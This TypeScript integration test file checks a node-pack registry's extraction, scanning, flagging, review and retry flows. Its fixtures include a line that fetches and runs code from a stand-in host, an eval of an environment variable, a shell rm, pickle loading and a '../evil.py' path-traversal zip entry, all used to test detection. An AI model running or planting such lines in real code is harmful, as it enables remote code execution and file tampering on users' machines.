import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'

import { Client as TemporalClient, Connection } from '@temporalio/client'

import { EXTRACTOR_VERSION } from '../../src/extraction/versions.ts'
import { temporalAddress } from '../support/stack.ts'
import { waitFor } from '../support/wait.ts'
import { writeZip } from '../support/zip-writer.ts'
import { ACTIVE, FLAGGED, makePack, openExtractionPlace } from './extraction-place.ts'
import type { ExtractionPlace, Published } from './extraction-place.ts'
import { expectStatus } from './registry-support.ts'

const EXTRACTION_TOKEN = 'extraction-token-of-this-test'

let place: ExtractionPlace
/** A second api with EXTRACTION_TOKEN. */
let trustedUrl: string

before(async () => {
  place = await openExtractionPlace()
  trustedUrl = (await place.service.startSecondApi({ EXTRACTION_TOKEN })).baseUrl
})
after(() => place?.service.stop())

const GOOD = {
  'kiln-cups/__init__.py': `from .cups import Cup, Pot
NODE_CLASS_MAPPINGS = {"Kiln Cup": Cup, "Kiln/Pot ": Pot}
`,
  'kiln-cups/cups.py': `class Cup:
    """Not the description."""
    CATEGORY = "kiln/ware"
    DESCRIPTION = "Throws a cup\u00e9."
    FUNCTION = "throw"
    RETURN_TYPES = ("IMAGE", ["a", "b"])
    RETURN_NAMES = ("cup", "kind")
    OUTPUT_IS_LIST = (True, False)
    DEPRECATED = True
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"height": ("FLOAT", {"default": 1.0, "max": 1e-05}), "2": ("INT",)},
                "optional": {"clay": (["red", "white"],)}}

class Pot:
    RETURN_TYPES = ()
    EXPERIMENTAL = True
`,
  'kiln-cups/pyproject.toml': '[project]\nname = "kiln-cups"\n',
}

const minimal = (names: readonly string[], more = ''): Record<string, string> => ({
  '__init__.py': `class Cup: RETURN_TYPES = ("IMAGE",)
NODE_CLASS_MAPPINGS = {${names.map((name) => `"${name}": Cup`).join(', ')}}
${more}`,
})

describe('a good pack', () => {
  let good: Published & { version: Record<string, unknown> }
  before(async () => {
    good = await place.add(GOOD)
  })

  test('is Active, with its host nodes and their fields', async () => {
    const { version, path } = good
    assert.deepEqual(
      [version['status'], version['status_reason'], version['host_node_extract_status']],
      [ACTIVE, 'Passed automated checks', 'success'],
    )
    const { body } = expectStatus(await place.anonymous.get(`${path}/host-nodes`), 200)
    assert.equal(body['total'], 2)
    assert.deepEqual(body['host_nodes'], [
      {
        host_node_name: 'Kiln Cup',
        category: 'kiln/ware',
        description: 'Throws a cup\u00e9.',
        function: 'throw',
        deprecated: true,
        experimental: false,
        input_types:
          '{"required":{"height":["FLOAT",{"default":1,"max":0.00001}],"2":["INT"]},"optional":{"clay":[["red","white"]]}}',
        return_types: '["IMAGE",["a","b"]]',
        return_names: '["cup","kind"]',
        output_is_list: [true, false],
        policy: 'HostNodePolicyActive',
      },
      {
        host_node_name: 'Kiln/Pot ',
        category: 'sd',
        description: '',
        function: '',
        deprecated: false,
        experimental: true,
        input_types: '{"required":{}}',
        return_types: '[]',
        return_names: '[]',
        output_is_list: [],
        policy: 'HostNodePolicyActive',
      },
    ])
    assert.deepEqual(version['tags_admin'], [])
    const { findings, extraction, counts } = await place.readFindings(path)
    assert.deepEqual(
      [findings, extraction, counts],
      [[], { status: 'success', partial: false }, { high: 0, medium: 0, info: 0 }],
    )
  })

  test('is found by the names of its host nodes', async () => {
    const { anonymous } = place
    for (const name of ['Kiln Cup', 'Kiln/Pot ']) {
      const found = await anonymous.get(`/host-nodes/${encodeURIComponent(name)}/node`)
      assert.equal(expectStatus(found, 200).body['id'], good.nodeId)
    }
    const { body } = await anonymous.get('/nodes/search?host_node_search=n%2Fpot')
    const nodes = body['nodes'] as unknown as { id: string }[]
    assert.deepEqual(
      nodes.map(({ id }) => id),
      [good.nodeId],
    )
  })

  test('was read by workflows that say what they do, and of which histories hold little', async () => {
    const connection = await Connection.connect({ address: temporalAddress() })
    try {
      const { workflow } = new TemporalClient({ connection })
      for (const kind of ['publish-version', 'receive-archive', 'extract-host-nodes']) {
        const handle = workflow.getHandle(`${kind}/${good.id}`)
        const told = await waitFor(`${kind} has completed`, async () => {
          const found = await handle.describe()
          return found.status.name === 'COMPLETED' && found
        })
        const attributes = new Map(
          told.typedSearchAttributes.getAll().map(({ key, value }) => [key.name, value]),
        )
        const known = ['KilnPublisher', 'KilnNode', 'KilnVersion', 'KilnKind', 'KilnOwner']
        assert.deepEqual(
          known.map((name) => attributes.get(name)),
          ['acme', good.nodeId, '1.0.0', 'publish', 'olga'],
        )
        const summary = await told.staticSummary()
        assert.ok(summary?.includes(`${good.nodeId}@1.0.0`), `${kind}: ${summary}`)
        if (kind !== 'publish-version')
          assert.equal(told.parentExecution?.workflowId, `publish-version/${good.id}`)
        const payloads = listPayloads(await handle.fetchHistory())
        assert.ok(payloads.length > 0, 'there are payloads')
        for (const payload of payloads) {
          assert.ok(payload.length < 2048, `${kind}: ${payload.length} bytes`)
          assert.doesNotMatch(payload.toString(), /Kiln Cup|kiln\/ware|INPUT_TYPES/)
        }
      }
    } finally {
      await connection.close()
    }
  })
})

/** The bytes of every payload of a history. */
const listPayloads = (value: unknown): Buffer[] => {
  if (typeof value !== 'object' || value === null || value instanceof Uint8Array) return []
  return Object.entries(value).flatMap(([name, member]) =>
    name === 'data' && member instanceof Uint8Array ? [Buffer.from(member)] : listPayloads(member),
  )
}

describe('a pack with a finding of high severity', () => {
  const SECRET_LINE = 'exec(requests.get("https://x.example/payload").text)'
  let bad: Published & { version: Record<string, unknown> }
  before(async () => {
    bad = await place.add(minimal(['Kiln Bad'], `import requests\n\n${SECRET_LINE}\n`))
  })

  test('is Flagged with a sentence that names rule, file and line', async () => {
    const { version } = bad
    assert.equal(version['status'], FLAGGED)
    assert.match(
      String(version['status_reason']),
      /^1 finding flags this version.*Code from the network is run.*__init__\.py.*line 5/,
    )
    // What it provides is known all the same.
    assert.equal(version['host_node_extract_status'], 'success')
    assert.deepEqual(await place.readNames(bad.path), ['Kiln Bad'])
    expectStatus(
      await place.anonymous.get('/host-nodes/Kiln%20Bad/node'),
      404,
      'host_node_not_found',
    )
  })

  test('shows its findings to members, and to others how many there are', async () => {
    const { counts, scanned_at: at, findings, moves } = await place.readFindings(bad.path)
    const [{ id, ...finding } = { id: '' }, ...rest] = findings as { id: string }[]
    assert.match(id, /^[0-9a-f-]{36}$/)
    assert.deepEqual(rest, [])
    assert.deepEqual(finding, {
      issue_type: 'exec-network',
      severity: 'high',
      file_path: '__init__.py',
      line_number: 5,
      code_snippet: SECRET_LINE,
      message: String((finding as { message?: string }).message),
      scanner: 'kiln',
      scanner_version: String((finding as { scanner_version?: string }).scanner_version),
    })
    assert.ok(Array.isArray(moves), 'and its moves')
    const told = expectStatus(await place.anonymous.get(`${bad.path}/findings`), 200)
    assert.deepEqual(told.body, { counts, scanned_at: at })
    const asAdmin = expectStatus(await place.admin.get(`${bad.path}/findings`), 200)
    assert.deepEqual(asAdmin.body['findings'], findings)
  })

  test('says why it cannot be had', async () => {
    const reason = String(bad.version['status_reason'])
    for (const path of [
      `/nodes/${bad.nodeId}/install?version=1.0.0`,
      `/archives/acme/${bad.nodeId}/1.0.0/node.zip`,
    ]) {
      const refused = expectStatus(await place.anonymous.get(path), 403, 'version_blocked')
      assert.ok(refused.body.message?.includes(reason), refused.body.message)
    }
  })

  test('is Active when its owner asks for a review and an admin finds it harmless', async () => {
    const review = `/publishers/acme/nodes/${bad.nodeId}/versions/${bad.id}/review`
    expectStatus(await place.owner.post(review, { note: 'the address is ours' }), 201)
    expectStatus(await place.owner.post(review, {}), 409, 'review_already_requested')
    const listed = async (): Promise<string[]> => {
      const { body } = await place.admin.get('/versions?review_requested=true')
      return (body['versions'] as unknown as { id: string }[]).map(({ id }) => id)
    }
    assert.deepEqual(await listed(), [bad.id])
    const activate = { status: ACTIVE, status_reason: 'looked at' }
    expectStatus(await place.admin.call('PUT', `/admin${bad.path}`, activate), 200)
    assert.deepEqual(await listed(), [])
    expectStatus(await place.anonymous.get(`/nodes/${bad.nodeId}/install`), 200)
    const found = await place.anonymous.get('/host-nodes/Kiln%20Bad/node')
    assert.equal(expectStatus(found, 200).body['id'], bad.nodeId)
    const { reviews, findings } = await place.readFindings(bad.path)
    const [{ note, closed_at: closedAt } = {}] = reviews as Record<string, unknown>[]
    assert.equal(note, 'the address is ours')
    assert.ok(closedAt, 'the review is closed')
    assert.equal((findings as object[]).length, 1)
  })
})

describe('findings of lower severity', () => {
  test('never flag; those of medium severity are told in tags', async () => {
    const { version, path } = await place.add({
      ...minimal(
        ['Kiln Odd'],
        'import os, pickle, requests, subprocess\neval(os.environ["X"])\nos.system(f"rm {X}")\npickle.load(X)\nrequests.get(X)\nsubprocess.run(["ls"])\n',
      ),
      'requirements.txt': 'git+https://git.example.com/a.git\n',
    })
    assert.deepEqual([version['status'], version['host_node_extract_status']], [ACTIVE, 'success'])
    const tags = version['tags_admin'] as string[]
    const rules = ['dynamic-code', 'foreign-requirement', 'shell', 'unsafe-load']
    assert.deepEqual(
      tags.toSorted(),
      rules.map((rule) => `security:${rule}`),
    )
    const { counts, findings } = await place.readFindings(path)
    const { high, medium, info } = counts as Record<string, number>
    assert.deepEqual([high, medium], [0, 4])
    assert.ok(info && info > 0, 'and some of info')
    assert.deepEqual(
      (findings as { severity: string }[]).map(({ severity }) => severity),
      ['medium', 'medium', 'medium', 'medium'],
    )
  })
})

describe('an archive that is rejected', () => {
  test('is Flagged with what is wrong with it', async () => {
    const zip = writeZip([
      { name: '__init__.py', data: 'NODE_CLASS_MAPPINGS = {}\n' },
      { name: '../evil.py', data: 'x' },
    ])
    const { version, path } = await place.add(zip)
    assert.deepEqual([version['status'], version['host_node_extract_status']], [FLAGGED, 'failed'])
    assert.equal('downloadUrl' in version, false)
    const { findings, counts, extraction } = await place.readFindings(path)
    assert.deepEqual(extraction, {
      status: 'failed',
      reason: 'archive_path_traversal',
      partial: false,
    })
    assert.deepEqual(counts, { high: 1, medium: 0, info: 0 })
    const [finding, ...rest] = findings as Record<string, string>[]
    assert.deepEqual(rest, [])
    assert.deepEqual(
      [finding?.['issue_type'], finding?.['severity'], finding?.['file_path']],
      ['archive_path_traversal', 'high', '../evil.py'],
    )
    const reason = String(version['status_reason'])
    assert.ok(reason.includes(String(finding?.['message'])), reason)
    expectStatus(await place.admin.post(`/admin${path}/retry`, {}), 409, 'nothing_to_retry')
  })
})

describe('a pack without host nodes', () => {
  test('is Active with none when it is one of scripts for the browser', async () => {
    const { version, path } = await place.add({
      '__init__.py': 'WEB_DIRECTORY = "./js"\nNODE_CLASS_MAPPINGS = {}\n',
      'js/a.js': 'export {}\n',
    })
    assert.deepEqual([version['status'], version['host_node_extract_status']], [ACTIVE, 'success'])
    assert.deepEqual(await place.readNames(path), [])
  })

  for (const [files, reason] of [
    [{ 'README.md': 'x' }, 'no_init'],
    [{ '__init__.py': 'x = 1\n' }, 'no_mapping'],
  ] as const)
    test(`is Active, and its extraction says ${reason}`, async () => {
      const { version, path } = await place.add(files)
      assert.deepEqual([version['status'], version['host_node_extract_status']], [ACTIVE, 'failed'])
      const { extraction } = await place.readFindings(path)
      assert.deepEqual(extraction, { status: 'failed', reason, partial: false })
    })
})

describe('an extraction that failed', () => {
  const untilSettled = async (path: string): Promise<unknown> =>
    await waitFor('the extraction has ended', async () => {
      const { body } = await place.anonymous.get(path)
      return body['host_node_extract_status'] !== 'pending' && body['host_node_extract_status']
    })
  const retry = async (path: string): Promise<void> => {
    const { body } = expectStatus(await place.admin.post(`/admin${path}/retry`, {}), 200)
    assert.deepEqual([body['status'], body['host_node_extract_status']], [ACTIVE, 'pending'])
  }

  test('is made again when an admin retries it, from the archive', async () => {
    const { id, path } = await place.add(minimal(['Kiln Late']))
    const { sql } = place.service.database
    // As if the reading had never ended.
    await sql`delete from extraction where version_id = ${id}`
    await sql`delete from host_node where version_id = ${id}`
    await sql`
      update version set host_node_extract_status = 'failed', extract_reason = 'timed_out'
      where id = ${id}
    `
    const { extraction } = await place.readFindings(path)
    assert.deepEqual(extraction, { status: 'failed', reason: 'timed_out', partial: false })
    await retry(path)
    assert.equal(await untilSettled(path), 'success')
    assert.deepEqual(await place.readNames(path), ['Kiln Late'])
    assert.equal((await place.anonymous.get(path)).body['status'], ACTIVE)
    expectStatus(await place.admin.post(`/admin${path}/retry`, {}), 409, 'nothing_to_retry')
  })

  test('fails again for the same reason, and can be retried again', async () => {
    const { id, path } = await place.add({ 'README.md': 'x' })
    const { sql } = place.service.database
    const readAt = async () =>
      (await sql`select read_at from extraction where version_id = ${id}`)[0]?.['read_at']
    for (let times = 0; times < 2; times += 1) {
      const before = await readAt()
      await retry(path)
      assert.equal(await untilSettled(path), 'failed')
      assert.notDeepEqual(await readAt(), before)
      const { extraction } = await place.readFindings(path)
      assert.deepEqual(extraction, { status: 'failed', reason: 'no_init', partial: false })
    }
  })
})

describe('a report of host nodes', () => {
  const report = { nodes: { 'Kiln Cup': { category: 'told' }, 'Kiln Told': {} } }
  const trusted = async (path: string, body: object): Promise<number> => {
    const { status } = await fetch(`${trustedUrl}${path}/host-nodes`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${EXTRACTION_TOKEN}`,
        'content-type': 'application/json',
      },
      body: JSON.stringify(body),
    })
    return status
  }

  test('that anybody could send gives way to what the archive says; the policy of operators stays', async () => {
    const published = await place.publish()
    const { path } = published
    expectStatus(await place.anonymous.post(`${path}/host-nodes`, report), 204)
    assert.deepEqual(await place.readNames(path), ['Kiln Cup', 'Kiln Told'])
    const banned = { host_node_policies: { 'Kiln Cup': 'HostNodePolicyBanned' } }
    expectStatus(await place.admin.call('PUT', `/admin${path}`, banned), 200)
    const version = await place.send(published, makePack(minimal(['Kiln Cup', 'Kiln New'])))
    assert.deepEqual([version['status'], version['host_node_extract_status']], [ACTIVE, 'success'])
    assert.deepEqual(await place.readNames(path), ['Kiln Cup', 'Kiln New'])
    const { body } = await place.anonymous.get(`${path}/host-nodes/Kiln%20Cup`)
    assert.deepEqual([body['policy'], body['category']], ['HostNodePolicyBanned', 'sd'])
    expectStatus(
      await place.anonymous.post(`${path}/host-nodes`, report),
      409,
      'already_registered',
    )
    assert.equal(await trusted(path, report), 409)
  })

  test('that is trusted stays', async () => {
    const published = await place.publish()
    assert.equal(await trusted(published.path, report), 204)
    const version = await place.send(published, makePack(minimal(['Kiln New'])))
    assert.deepEqual([version['status'], version['host_node_extract_status']], [ACTIVE, 'success'])
    assert.deepEqual(await place.readNames(published.path), ['Kiln Cup', 'Kiln Told'])
  })

  test('of a failure gives way, too', async () => {
    const published = await place.publish()
    const failure = { success: false, reason: 'no import' }
    expectStatus(await place.anonymous.post(`${published.path}/host-nodes`, failure), 204)
    await place.send(published, makePack(minimal(['Kiln New'])))
    assert.deepEqual(await place.readNames(published.path), ['Kiln New'])
  })

  test('after a failure to read the archive is taken from whoever is trusted alone', async () => {
    const { path } = await place.add({ 'README.md': 'x' })
    for (const body of [report, { success: false }])
      expectStatus(
        await place.anonymous.post(`${path}/host-nodes`, body),
        403,
        'registration_closed',
      )
    assert.equal(await trusted(path, report), 204)
    assert.deepEqual(await place.readNames(path), ['Kiln Cup', 'Kiln Told'])
    const { extraction } = await place.readFindings(path)
    assert.deepEqual(extraction, { status: 'success', partial: false })
  })
})

describe('a workflow that settles host nodes', () => {
  test('takes the reading of a worker that has a newer extractor', async () => {
    const published = await place.publish()
    const { sql } = place.service.database
    // Whoever reads has been renewed, and who settles has not.
    await sql`
      create function newer() returns trigger language plpgsql as
        'begin new.extractor_version = ${sql.unsafe(String(EXTRACTOR_VERSION + 1))}; return new; end'
    `
    await sql`create trigger newer before insert on extraction for each row execute function newer()`
    try {
      const version = await place.send(published, makePack(minimal(['Kiln New'])))
      assert.equal(version['host_node_extract_status'], 'success')
      assert.deepEqual(await place.readNames(published.path), ['Kiln New'])
    } finally {
      await sql`drop trigger newer on extraction`
    }
  })
})
